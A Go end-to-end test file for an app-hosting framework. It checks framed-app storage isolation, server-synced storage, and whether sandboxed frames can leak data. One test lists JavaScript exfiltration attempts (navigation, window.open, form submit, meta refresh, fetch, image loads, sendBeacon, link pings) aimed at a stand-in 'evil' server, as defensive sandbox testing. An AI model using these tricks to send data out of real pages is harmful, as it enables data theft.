package e2e

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"samkit.dev/canvas"
	"samkit.dev/host/engine"
	"samkit.dev/sam"
)

// opaque serves one app below /p/ as a program without a log-in does.
func opaque(t *testing.T, files sam.Files) (at string) {
	t.Helper()
	eng, err := engine.New(&engine.Options{Isolation: engine.InProcess})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { eng.Close() })
	store := sam.NewMemStore()
	t.Cleanup(func() { store.Close() })
	app, err := sam.NewWorkspace(store, "e2e", nil).Create(context.Background(), "app", files)
	if err != nil {
		t.Fatal(err)
	}
	h, err := canvas.New(canvas.App{Project: app}, &canvas.Options{Engine: eng})
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	canvas.Mount(mux, "/p/", h)
	srv := httptest.NewServer(mux)
	t.Cleanup(func() { h.Close(); srv.Close() })
	return srv.URL + "/p/"
}

const keeping = `<!doctype html><title>Keeping</title><link rel="icon" href="data:,"><script>
	localStorage.n = Number(localStorage.n ?? 0) + 1;
	sessionStorage.n = Number(sessionStorage.n ?? 0) + 1;
	window.result = { local: localStorage.n, session: sessionStorage.n, name: window.name, origin: self.origin, path: location.pathname };
	addEventListener("storage", (e) => (window.event_ = e.key + " " + e.oldValue + " " + e.newValue));
</script><a href="second.html">second</a>`

type keepResult struct{ Local, Session, Name, Origin, Path string }

// What a framed app stores is with the page that frames it, and at hand at once.
func TestFramedStorage(t *testing.T) {
	at := opaque(t, sam.Files{"index.html": keeping, "second.html": keeping})
	b := newTab(t, strings.Split(at, "/")[2])
	b.open(at + "~frame/")
	f := b.frameOf("/p/")
	f.until("window.result")
	if r := eval[keepResult](f, "window.result"); r.Local != "1" || r.Session != "1" || r.Name != "" || r.Origin != "null" {
		t.Errorf("at first: %+v", r)
	}
	f.click("a", "second")
	f.until("window.result && window.result.path.endsWith('second.html')")
	if r := eval[keepResult](f, "window.result"); r.Local != "2" || r.Session != "2" {
		t.Errorf("the app's second page: %+v", r)
	}
	b.until(`Object.values(localStorage).some((s) => s.includes('"2"'))`)
	b.open(at + "~frame/")
	f = b.frameOf("/p/")
	f.until("window.result")
	if r := eval[keepResult](f, "window.result"); r.Local != "3" || r.Session != "1" {
		t.Errorf("after loading again: %+v", r)
	}
	// Another tab says what it changed.
	key := eval[string](b, "Object.keys(localStorage).find((k) => k.startsWith('samkit.storage:'))")
	eval[bool](b, `(dispatchEvent(new StorageEvent("storage", { key: `+quote(key)+`, oldValue: localStorage[`+quote(key)+`], newValue: "" })), true)`)
	if got := eval[string](f, `localStorage.getItem("n")`); got != "3" {
		t.Errorf("a change that was none made it %q", got)
	}
	eval[bool](b, `(() => { const old = localStorage[`+quote(key)+`]; localStorage[`+quote(key)+`] = '[["n","7"]]'; dispatchEvent(new StorageEvent("storage", { key: `+quote(key)+`, oldValue: old })); return true })()`)
	f.until(`window.event_ === "n 3 7" && localStorage.n === "7"`)
	// Not too much.
	if got := eval[string](f, `(() => { try { localStorage.big = "x".repeat(1 << 20); return "kept" } catch (e) { return e.name } })()`); got != "QuotaExceededError" {
		t.Errorf("a million characters: %s", got)
	}
}

// What the server keeps, it gives to the next page of the same person, in any browser.
func TestServerStorage(t *testing.T) {
	const look = `<!doctype html><title>Look</title><link rel="icon" href="data:,"><script>window.result = JSON.stringify({ ...localStorage })</script>`
	at := opaque(t, sam.Files{"index.html": keeping, "look.html": look, "sam.json": `{"localStorage": "server"}`})
	b, other := newTab(t, strings.Split(at, "/")[2]), newTab(t, strings.Split(at, "/")[2])
	until := func(want string) {
		t.Helper()
		deadline := time.Now().Add(15 * time.Second)
		for {
			other.open(at + "look.html")
			other.until("window.result")
			got := eval[string](other, "window.result")
			if got == want {
				return
			}
			if time.Now().After(deadline) {
				t.Fatalf("another browser finds %s, want %s", got, want)
			}
			time.Sleep(20 * time.Millisecond)
		}
	}
	b.open(at)
	b.until("window.result")
	until(`{"n":"1"}`)
	b.open(at)
	b.until("window.result.local === '2'")
	eval[bool](b, `(localStorage.setItem("</script>", "<b>&quot;"), delete localStorage.n, true)`)
	until(`{"</script>":"<b>&quot;"}`)
	eval[bool](b, `(localStorage.clear(), localStorage.setItem("a", "b"), true)`)
	until(`{"a":"b"}`)
}

// A framed app can't send what it knows elsewhere by navigating; at the top it can.
func TestFramedAppStays(t *testing.T) {
	var hits atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/favicon.ico" {
			hits.Add(1)
		}
	}))
	t.Cleanup(evil.Close)
	tries := []string{
		`location = "EVIL/?location"`, `location.replace("EVIL/?replace")`, `open("EVIL/?open")`, `open("EVIL/?self", "_self")`, `open("EVIL/?top", "_top")`,
		`parent.location = "EVIL/?parent"`,
		`(() => { const a = document.createElement("a"); a.href = "EVIL/?a"; document.body.append(a); a.click() })()`,
		`(() => { const a = document.createElement("a"); a.href = "EVIL/?blank"; a.target = "_blank"; document.body.append(a); a.click() })()`,
		`(() => { const a = document.createElement("a"); a.href = "/p/"; a.ping = "EVIL/?ping"; document.body.append(a); a.click() })()`,
		`(() => { const f = document.createElement("form"); f.action = "EVIL/?form"; document.body.append(f); f.submit() })()`,
		`(() => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=EVIL/?refresh"; document.head.append(m) })()`,
		`(() => { const f = document.createElement("iframe"); f.src = "EVIL/?iframe"; document.body.append(f) })()`,
		`fetch("EVIL/?fetch").catch(() => 0)`, `new Image().src = "EVIL/?image"`, `navigator.sendBeacon("EVIL/?beacon")`,
		`location = "leave"`,
	}
	files := sam.Files{"index.html": `<!doctype html><title>Leaking</title><link rel="icon" href="data:,"><p>here`, "_redirects": "/leave " + evil.URL + "/?redirect"}
	at := opaque(t, files)
	b := newTab(t, strings.Split(at, "/")[2])
	for _, try := range tries {
		b.open(at + "~frame/")
		f := b.frameOf("/p/")
		f.until("document.querySelector('p')")
		// The navigation may end the frame before it answers.
		eval[bool](f, "(setTimeout(() => { "+strings.ReplaceAll(try, "EVIL", evil.URL)+" }), true)")
		time.Sleep(250 * time.Millisecond)
		if n := hits.Swap(0); n > 0 {
			t.Errorf("framed, %s reached the other site", try)
		}
		if title := eval[string](b, "document.title"); title != "app" {
			t.Errorf("after %s the framing page is %q", try, title)
			b = newTab(t, strings.Split(at, "/")[2])
		}
	}
	b.open(at)
	eval[bool](b, `(setTimeout(() => { location = "`+evil.URL+`" }), true)`)
	deadline := time.Now().Add(15 * time.Second)
	for hits.Load() == 0 {
		if time.Now().After(deadline) {
			t.Fatal("at the top, no navigation reached the other site: the test sees nothing")
		}
		time.Sleep(20 * time.Millisecond)
	}
}
